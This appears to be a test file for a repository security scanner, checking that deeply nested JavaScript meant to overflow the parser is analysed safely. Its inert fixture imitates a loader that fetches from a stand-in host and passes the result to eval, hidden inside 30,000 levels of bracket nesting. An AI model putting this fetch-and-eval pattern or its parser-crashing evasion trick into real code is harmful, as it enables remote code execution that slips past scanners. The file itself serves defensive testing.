/**
 * Deeply nested code overflows the native stack of the parser (oxc recurses), which kills the
 * whole process. The main thread never parses it: the code rules hand it to a thread with a big
 * stack, and the other readers fall back to the text or report that they could not read it.
 */
import assert from 'node:assert/strict';
import { rmSync } from 'node:fs';
import { after, describe, it } from 'node:test';
import { extractImports } from '../../src/analysis/imports.ts';
import { DeepNestingError, parseJs } from '../../src/lang/js/parse.ts';
import { scanFixture, tempRepo } from '../helpers/fixtures.ts';

// Inert: the endpoint is under .invalid and nothing here runs.
const deep = (inner: string): string => `${'['.repeat(30_000)}${inner}${']'.repeat(30_000)}`;
const loader = `const x = require('./helper.js');\nvar r = fetch('https://cfg.example.invalid/x'); eval(${deep('r')});\n`;

const dirs: string[] = [];
after(() => {
  for (const d of dirs) rmSync(d, { recursive: true, force: true });
});

describe('deeply nested code', () => {
  it('is not parsed in the main thread, and the import graph falls back to the text', () => {
    assert.throws(() => parseJs('deep.js', loader), DeepNestingError);
    assert.deepEqual(
      extractImports(loader, () => parseJs('deep.js', loader)).map(r => r.specifier),
      ['./helper.js'],
    );
  });

  it('run by a dev script, a test set-up file or a pnpmfile, is scanned without bringing the scan down', async () => {
    const dir = tempRepo({
      'package.json': JSON.stringify({ name: 'deep', version: '1.0.0', scripts: { dev: 'node server/deep.js', test: 'jest' } }),
      'server/deep.js': loader,
      'server/helper.js': 'module.exports = 1;\n',
      'jest.config.js': `module.exports = { setupFiles: ['./server/helper.js'], x: ${deep('1')} };\n`,
      '.pnpmfile.cjs': `module.exports = { hooks: { readPackage(p) { return p; } }, x: ${deep('1')} };\n`,
    });
    dirs.push(dir);
    const report = await scanFixture(dir);
    const dev = report.executionMap.find(s => s.trigger === 'dev');
    assert.equal(dev?.entry, 'server/deep.js');
    assert.deepEqual(dev.reaches, ['server/helper.js'], 'imports followed from the text');
    assert.ok(
      report.findings.some(f => f.location.file === 'server/deep.js' && f.ruleId === 'code/dynamic-code'),
      'the code rules analysed it in a thread with a big stack',
    );
    assert.notEqual(report.verdict, 'pass');
    const unread = report.errors.map(e => `${e.file ?? ''}: ${e.message}`);
    assert.ok(
      unread.some(e => e.startsWith('jest.config.js:') && e.includes('nested too deeply')),
      unread.join('\n'),
    );
    assert.ok(
      unread.some(e => e.startsWith('.pnpmfile.cjs:') && e.includes('nested too deeply')),
      unread.join('\n'),
    );
  });
});
